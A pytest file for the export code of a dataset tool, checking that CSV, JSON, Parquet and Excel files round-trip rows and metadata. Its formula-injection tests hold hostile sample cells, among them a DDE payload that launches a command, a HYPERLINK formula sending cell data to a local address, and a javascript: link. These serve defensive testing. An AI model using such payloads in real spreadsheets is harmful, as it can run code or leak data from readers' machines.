"""Files to take away, read back by the programs that readers use: each has the rows of the engine and of the
CSV file, and nothing that a spreadsheet would run.
"""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from peace_ledger import api, catalog, dictionary, exports
from peace_ledger import dataset as datasets
from peace_ledger.dataset import Dataset
from peace_ledger.dictionary import Code, Column
from peace_ledger.engine import Engine, Rows, open_engine
from peace_ledger.exports import About, Source, Table
from tests.altered import copy, rewrite
from tests.fixtures import TODAY, CsvRows, Parameters

TABLES = (
    "sources",
    "actors",
    "events",
    "reactions",
    "releases",
    "detentions",
    "commitments",
    "commitment_updates",
    "disputes",
    "coverage",
    "codings",
)
QUESTIONS = sorted(name for name in catalog.read() if name.partition("/")[0] not in api.PRIVATE)
ABOUT = About(
    name="cells",
    title="Cells",
    question="Which cells are there?",
    process="small",
    package="A small package",
    version="1",
    parameters={"actor": ["france", "russia"]},
    filters="actor: France and Russia",
    ignored=["event"],
    link="http://127.0.0.1/api/v1/tables/cells.csv?data=1",
    licence="CC BY 4.0",
    citation="Peace Ledger (2026). Cells.",
    made_on=TODAY,
)
TEXT, LINK = Column("text", "string", "Any text."), Column("url", "string", "An address.")


def exported(engine: Engine, name: str, parameters: Parameters) -> Table:
    """The rows of a query as they are exported."""
    rows = engine.rows(name, parameters)
    columns = dictionary.columns_of(engine.queries[name], engine.dataset.package)
    return Table(ABOUT, columns, rows, exports.sources_of(rows))


def written(table: Table, extension: str) -> bytes:
    return exports.FORMATS[extension].write(table)


def of_texts(*texts: str | None, column: Column = TEXT) -> Table:
    return Table(ABOUT, (column,), [{column.name: text} for text in texts])


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def book(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def lines(content: bytes, sheet: str = "Data") -> list[tuple[Any, ...]]:
    """The rows of a sheet, its header first; days as days."""
    cells = book(content)[sheet].iter_rows(values_only=True)
    return [tuple(cell.date() if isinstance(cell, datetime) else cell for cell in line) for line in cells]


# Read back


@pytest.mark.parametrize("name", TABLES)
def test_without_filters_a_table_has_every_cell_of_its_file(
    engine: Engine,
    parameters: Callable[..., Parameters],
    table: Callable[[str], CsvRows],
    name: str,
) -> None:
    file = table(name)
    content = written(exported(engine, f"tables/{name}", parameters()), "csv")
    header, *rows = csv_cells(content)
    given = [dict(zip(header, row, strict=True)) for row in rows]
    columns = list(file[0])
    assert header[: len(columns)] == columns
    assert sorted(tuple(row[column] for column in columns) for row in given) == sorted(
        tuple(row.values()) for row in file
    )


@pytest.mark.parametrize(
    "name", [name for name in TABLES if name not in ("sources", "actors", "coverage", "codings")]
)
def test_each_row_is_joined_with_its_source(
    engine: Engine,
    parameters: Callable[..., Parameters],
    table: Callable[[str], CsvRows],
    name: str,
) -> None:
    sources = {row["source_id"]: row for row in table("sources")}
    header, *rows = csv_cells(written(exported(engine, f"tables/{name}", parameters()), "csv"))
    assert rows
    for row in (dict(zip(header, cells, strict=True)) for cells in rows):
        for prefix in ("", "announced_") if name == "releases" else ("",):
            source = sources.get(row[f"{prefix}source_id"])
            assert row[f"{prefix}source_title"] == (source["title"] if source else "")
            for column in ("publisher", "url", "published_on", "perspective"):
                assert row[prefix + column] == (source[column] if source else "")


@pytest.mark.parametrize("kind", ["full", "filtered", "empty"])
@pytest.mark.parametrize("name", TABLES)
def test_every_format_gives_the_rows_of_the_engine(
    engine: Engine, parameter_sets: dict[str, Parameters], name: str, kind: str
) -> None:
    table = exported(engine, f"tables/{name}", parameter_sets[kind])
    names = [column.name for column in table.columns]
    as_texts = [[exports.as_text(row[each]) for each in names] for row in table.rows]

    frame = pd.read_csv(io.BytesIO(written(table, "csv")), dtype=str, keep_default_na=False)
    assert list(frame.columns) == names
    assert frame.to_numpy().tolist() == as_texts

    read = parquet.read_table(io.BytesIO(written(table, "parquet")))
    assert read.column_names == names
    assert read.to_pylist() == table.rows

    document = json.loads(written(table, "json"))
    assert [column["name"] for column in document["columns"]] == names
    assert [[as_json(row[each]) for each in names] for row in table.rows] == [
        [row[each] for each in names] for row in document["rows"]
    ]

    header, *sheet = lines(written(table, "xlsx"))
    assert list(header) == names
    assert [[exports.as_text(cell) for cell in line] for line in sheet] == as_texts


def as_json(value: Any) -> Any:
    return value.isoformat() if isinstance(value, date) else value


def test_duckdb_reads_csv_json_and_parquet_with_their_types(
    engine: Engine, parameters: Callable[..., Parameters], tmp_path: Path
) -> None:
    table = exported(engine, "tables/releases", parameters())
    for extension in ("csv", "parquet", "json"):
        (tmp_path / f"releases.{extension}").write_bytes(written(table, extension))
    people = sum(row["people"] for row in table.rows)
    days = len({row["released_on"] for row in table.rows} - {None})
    counts = "SELECT count(*), sum(people), count(DISTINCT released_on), typeof(max(released_on)) FROM"
    with duckdb.connect() as database:
        for source in (f"'{tmp_path}/releases.csv'", f"'{tmp_path}/releases.parquet'"):
            found = database.execute(f"{counts} {source}").fetchall()
            assert found == [(len(table.rows), people, days, "DATE")]
        (found_in_json,) = database.execute(
            f"SELECT len(rows) FROM read_json('{tmp_path}/releases.json', maximum_object_size = 100000000)"
        ).fetchall()
    assert found_in_json == (len(table.rows),)


def test_pandas_reads_days_numbers_and_truths_of_a_workbook(
    engine: Engine, parameters: Callable[..., Parameters]
) -> None:
    table = exported(engine, "tables/commitments", parameters())
    sheets = pd.read_excel(io.BytesIO(written(table, "xlsx")), sheet_name=None)
    data = sheets["Data"]
    assert list(sheets) == ["Data", "Data dictionary", "Sources", "About"]
    assert data["made_on"].dt.date.tolist() == [row["made_on"] for row in table.rows]
    assert data["testable"].tolist() == [row["testable"] for row in table.rows]


def test_parquet_is_typed_and_says_what_it_is(engine: Engine, parameters: Callable[..., Parameters]) -> None:
    schema = parquet.read_schema(
        io.BytesIO(written(exported(engine, "tables/events", parameters()), "parquet"))
    )
    assert schema.field("start_on").type == pa.date32()
    assert schema.field("participants").type == pa.list_(pa.string())
    assert schema.field("start_on").metadata[b"description"] == b"First day."
    assert schema.metadata[b"data version"] == b"1"
    assert schema.metadata[b"permanent link"] == ABOUT.link.encode()
    assert schema.metadata[b"question"] == b"Which cells are there?"


def test_json_says_what_it_is_and_what_its_columns_mean(
    engine: Engine, parameters: Callable[..., Parameters]
) -> None:
    document = json.loads(written(exported(engine, "tables/reactions", parameters()), "json"))
    assert document["about"] == {
        "title": "Cells",
        "question": "Which cells are there?",
        "name": "cells",
        "process": "small",
        "package": "A small package",
        "data_version": "1",
        "filters": "actor: France and Russia",
        "not_cut_by": "event",
        "permanent_link": ABOUT.link,
        "citation": "Peace Ledger (2026). Cells.",
        "licence": "CC BY 4.0",
        "made_on": TODAY.isoformat(),
        "parameters": {"actor": ["france", "russia"]},
    }
    stance = next(column for column in document["columns"] if column["name"] == "stance")
    field = engine.dataset.package.table("reactions").field("stance")
    assert stance["type"] == "string"
    assert stance["description"] == field.description
    assert [code["value"] for code in stance["codes"]] == list(field.codes)
    assert [code["label"] for code in stance["codes"]] == [field.label_of(code) for code in field.codes]


def test_the_same_table_gives_the_same_bytes(engine: Engine, parameters: Callable[..., Parameters]) -> None:
    for extension in exports.FORMATS:
        first, second = (
            written(exported(engine, "tables/events", parameters()), extension) for _ in range(2)
        )
        assert first == second, extension


# The workbook


def test_the_workbook_explains_every_column_and_code(
    engine: Engine, parameters: Callable[..., Parameters]
) -> None:
    table = exported(engine, "tables/commitments", parameters())
    _, *told = lines(written(table, "xlsx"), "Data dictionary")
    assert list(dict.fromkeys(line[0] for line in told)) == [column.name for column in table.columns]
    assert all(line[1] and line[2] for line in told if not line[3])
    package = engine.dataset.package
    for column, field in (
        ("theme", package.table("commitments").field("theme")),
        ("status", package.table("commitment_updates").field("status")),
        ("perspective", package.table("sources").field("perspective")),
    ):
        assert [line[3:] for line in told if line[0] == column and line[3]] == [
            (one.value, field.label_of(one.value), one.description) for one in field.categories or ()
        ]


def test_the_workbook_lists_each_source_of_the_rows_once(
    engine: Engine, parameters: Callable[..., Parameters], table: Callable[[str], CsvRows]
) -> None:
    cited = {row[column] for row in table("releases") for column in ("source_id", "announced_source_id")} - {
        ""
    }
    content = written(exported(engine, "tables/releases", parameters()), "xlsx")
    header, *told = lines(content, "Sources")
    assert header == ("source_id", "title", "publisher", "url", "published_on", "perspective")
    assert len(told) == len(cited)
    assert {line[0] for line in told} == cited


def test_the_workbook_says_where_it_is_from() -> None:
    told = dict(lines(written(of_texts("a", "b"), "xlsx"), "About")[1:])
    assert told["filters"] == ABOUT.filters
    assert told["data version"] == "1"
    assert told["permanent link"] == ABOUT.link
    assert told["citation"] == ABOUT.citation
    assert told["licence"] == ABOUT.licence
    assert told["made on"] == "2026-11-24"
    assert told["rows"] == "2"
    assert told["sources"] == "none: these rows name no sources"


def test_the_header_stays_in_sight_and_every_column_can_be_read() -> None:
    sheet = book(written(of_texts("short", "x" * 500), "xlsx"))["Data"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:A3"
    assert 20 < sheet.column_dimensions["A"].width <= 61


def test_addresses_are_links_and_other_text_is_not() -> None:
    hostile = "javascript:alert(1)"
    texts = ("https://example.org/a?b=c&d=%C3%A9", hostile, "see https://example.org", "file:///etc/passwd")
    sheet = book(written(of_texts(*texts, column=LINK), "xlsx"))["Data"]
    assert [sheet.cell(row, 1).value for row in range(2, 6)] == list(texts)
    assert [bool(sheet.cell(row, 1).hyperlink) for row in range(2, 6)] == [True, False, False, False]
    assert sheet.cell(2, 1).hyperlink.target == texts[0]


def test_past_the_number_of_links_that_a_sheet_can_have_addresses_are_text() -> None:
    addresses = [f"https://example.org/{number}" for number in range(65_600)]
    content = written(of_texts(*addresses, column=LINK), "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        strings = parts.read("xl/sharedStrings.xml").decode()
    assert sheet.count("<hyperlink ") == 65_530
    assert addresses[-1] in strings


@pytest.mark.parametrize("text", ["x" * 40_000, "😀" * 20_000, "=" + "y" * 40_000])
def test_a_text_that_no_cell_can_hold_is_cut_and_says_so(text: str) -> None:
    table = of_texts(text)
    ((cell,),) = lines(written(table, "xlsx"))[1:]
    kept, note = cell.split(" … ")
    assert len(cell.encode("utf-16-le")) <= 2 * 32_767
    assert text.startswith(kept)
    assert len(kept.encode("utf-16-le")) > 2 * 32_600
    assert note == "[cut here; the whole text is in CSV, JSON and Parquet]"
    assert json.loads(written(table, "json"))["rows"] == [{"text": text}]


def test_a_text_that_just_fits_is_whole() -> None:
    text = "x" * 32_767
    assert lines(written(of_texts(text), "xlsx"))[1:] == [(text,)]


def test_a_table_longer_than_a_sheet_is_refused_with_what_to_do() -> None:
    table = Table(ABOUT, (TEXT,), [{"text": "a"}] * 1_048_576)
    with pytest.raises(exports.TooLarge, match=r"at most 1,048,575 rows, and these are 1,048,576: take CSV"):
        written(table, "xlsx")


def test_days_before_excels_own_are_text() -> None:
    column = Column("day", "date", "A day.")
    table = Table(ABOUT, (column,), [{"day": date(1899, 5, 6)}, {"day": None}, {"day": date(1999, 5, 6)}])
    assert lines(written(table, "xlsx"))[1:] == [("1899-05-06",), (None,), (date(1999, 5, 6),)]


# Formulas

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"open")',
)
HIDDEN = ("plain;=1+1", "plain; @SUM(1)", "two\n=1+1", "two\r\n-1+1", "a\t+1+1")
HARMLESS = (
    "-5",
    "-",
    "kept; -",
    "+3.25",
    "a=b",
    "https://example.org/?a=-1",
    "re-opened; kept",
    "5 + 3",
    "'quoted'",
)
_STARTS_FORMULA = re.compile(r"[ \u00a0]*[=+\-@＝＋－＠].", re.DOTALL)


def runs(text: str) -> bool:
    """Whether a spreadsheet might run a cell: it, or a part at which it may be cut, begins like a formula."""
    if re.fullmatch(r"[+-]?\d+(\.\d+)?", text):
        return False
    return text[:1] in ("\t", "\r", "\n") or any(
        _STARTS_FORMULA.match(part) for part in re.split(r"[;\t\r\n]", text)
    )


@pytest.mark.parametrize("text", FORMULAS + HIDDEN)
def test_csv_neutralises_formulas(text: str) -> None:
    ((cell,),) = csv_cells(written(of_texts(text), "csv"))[1:]
    assert runs(text)
    assert not runs(cell)
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_other_text_alone(text: str) -> None:
    assert csv_cells(written(of_texts(text), "csv"))[1:] == [[text]]


@pytest.mark.parametrize("text", FORMULAS + HIDDEN + HARMLESS)
def test_a_workbook_has_text_and_no_formula(text: str) -> None:
    content = written(of_texts(text), "xlsx")
    cell = book(content)["Data"].cell(2, 1)
    assert cell.data_type == "s"
    # Without it Excel would take the text for a formula as soon as a reader edits the cell.
    assert bool(cell.quotePrefix) == runs(text)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


def test_items_of_lists_are_neutralised_too() -> None:
    table = Table(ABOUT, (Column("who", "list", "Who."),), [{"who": ["=1", "b"]}, {"who": ["a", "@x"]}])
    assert csv_cells(written(table, "csv"))[1:] == [["'=1;b"], ["a;'@x"]]


def test_numbers_keep_their_sign() -> None:
    columns = (Column("days", "integer", "Days."), Column("share", "number", "Share."))
    table = Table(ABOUT, columns, [{"days": -3, "share": -0.5}])
    assert csv_cells(written(table, "csv"))[1:] == [["-3", "-0.5"]]
    assert lines(written(table, "xlsx"))[1:] == [(-3, -0.5)]


@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@＝;\t\r\n '\"5"), max_size=12))
def test_no_text_makes_a_cell_of_csv_run(text: str) -> None:
    ((cell,),) = csv_cells(written(of_texts(text), "csv"))[1:]
    assert not runs(cell)
    assert runs(text) or cell == text
    assert cell.replace("'", "") == text.replace("'", "")


# Excel writes other control characters as codes, and XML has no carriage return.
TEXTS = st.text(
    st.characters(exclude_categories=["Cs", "Cc", "Cn"]) | st.sampled_from("\n\t=+-@;'\"<&"), min_size=1
)


@given(TEXTS.filter(lambda text: "_x" not in text))
def test_any_text_comes_back_from_the_other_formats(text: str) -> None:
    table = of_texts(text)
    assert json.loads(written(table, "json"))["rows"] == table.rows
    assert parquet.read_table(io.BytesIO(written(table, "parquet"))).to_pylist() == table.rows
    assert lines(written(table, "xlsx"))[1:] == [(text,)]


@pytest.mark.parametrize("text", ["\x00\x07bell", "\ufffe\uffff", "_x0041_"])
def test_characters_that_xml_does_not_know_break_no_workbook(text: str) -> None:
    ((cell,),) = lines(written(of_texts(text), "xlsx"))[1:]
    assert cell


def test_a_hostile_package_is_harmless_in_every_format(tmp_path: Path) -> None:
    folder = copy(tmp_path / "hostile")

    # Blanks at the edges and carriage returns do not pass the loader.
    formulas = [text for text in FORMULAS if text == text.strip()]

    def poison(rows: CsvRows) -> CsvRows:
        return [row | {"summary": text} for row, text in zip(rows, formulas, strict=False)]

    rewrite(folder, "detentions", poison)
    # They are fewer now than what is disputed about them.
    rewrite(folder, "disputes", lambda rows: [row for row in rows if row["subject_table"] != "detentions"])
    engine = open_engine(datasets.load(folder))
    table = exported(engine, "tables/detentions", {"today": TODAY, "actors": (), "directions": ()})
    texts = [row["summary"] for row in table.rows]
    at = [column.name for column in table.columns].index("summary")
    assert set(texts) == set(formulas)
    assert [row["summary"] for row in json.loads(written(table, "json"))["rows"]] == texts
    assert not any(runs(row[at]) for row in csv_cells(written(table, "csv"))[1:])
    sheet = book(written(table, "xlsx"))["Data"]
    assert {sheet.cell(row, at + 1).data_type for row in range(2, sheet.max_row + 1)} == {"s"}
    engine.dataset.database.close()


# The dictionary


@pytest.mark.parametrize("name", [*QUESTIONS, *(f"tables/{name}" for name in TABLES)])
def test_every_column_has_a_meaning(dataset: Dataset, engine: Engine, name: str) -> None:
    columns = dictionary.columns_of(engine.queries[name], dataset.package)
    assert [column.name for column in columns if not column.description] == [], (
        "write these into queries/columns.csv"
    )
    # A name may be a count in one query and a truth in another.
    for column in columns:
        assert column.description.startswith(("Whether", "True for")) == (column.type == "boolean"), column
        assert not column.description.startswith("How many") or column.type == "integer", column


def test_every_line_of_the_dictionary_is_for_a_column_and_a_field(dataset: Dataset, engine: Engine) -> None:
    public = {name: engine.queries[name] for name in QUESTIONS} | {
        f"tables/{name}": engine.queries[f"tables/{name}"] for name in TABLES
    }
    with dictionary.FILE.open(encoding="utf-8", newline="") as file:
        written_lines = list(csv.DictReader(file))
    keys = [(line["column"], line["queries"]) for line in written_lines]
    assert keys == sorted(set(keys))
    for line in written_lines:
        assert any(
            line["column"] in dict(query.columns)
            and line["queries"] in ("", name, f"{name.partition('/')[0]}/*")
            for name, query in public.items()
        ), line
        assert line["field"] or line["description"], line
        if line["field"]:
            table_name, field = line["field"].split(".")
            kind = dataset.package.table(table_name).field(field).type
            # What has no description of its own is what the field is.
            assert line["description"] or {
                column.type
                for name, query in public.items()
                for column in dictionary.columns_of(query, dataset.package)
                if column.name == line["column"]
                and column.description == dataset.package.table(table_name).field(field).description
            } <= {kind}, line


def test_the_closest_line_holds_and_codes_come_with_the_field(dataset: Dataset, engine: Engine) -> None:
    def column(query: str, name: str) -> Column:
        found = dictionary.columns_of(engine.queries[query], dataset.package)
        return next(one for one in found if one.name == name)

    assert column("releases/remains", "status").codes[0] == Code(
        "announced",
        dataset.label("releases", "status", "announced"),
        dataset.package.table("releases").field("status").categories[0].description,
    )
    assert column("commitments/deadlines", "status").codes[0].value == "pledged"
    assert column("commitments/summary", "contested").type == "integer"
    assert column("commitments/summary", "contested").description.startswith("How many")
    assert column("commitments/deadlines", "contested").description.startswith("Whether")


# Names


def test_a_file_is_named_by_what_it_holds() -> None:
    assert exports.file_name("reactions", "2026.11.1", "csv") == "peace-ledger_reactions_2026.11.1.csv"
    assert (
        exports.file_name("releases/summary", "v 1/2", "xlsx", known=date(2023, 12, 10), process="other")
        == "peace-ledger_other_releases-summary_known-2023-12-10_v-1-2.xlsx"
    )


def test_sources_of_rows_are_distinct_and_in_order() -> None:
    one = Source("a", "A", "P", "https://example.org/a", date(2024, 1, 2), "third_party")
    other = Source("b", "B", None, None, None, None)
    row = {
        "source_id": "a",
        "source_title": "A",
        "publisher": "P",
        "url": "https://example.org/a",
        "published_on": date(2024, 1, 2),
        "perspective": "third_party",
    }
    announced: Rows = [
        row | {"announced_source_id": "b", "announced_source_title": "B"},
        row,
        row | {"source_title": None},
    ]
    assert exports.sources_of(announced) == (other, one)
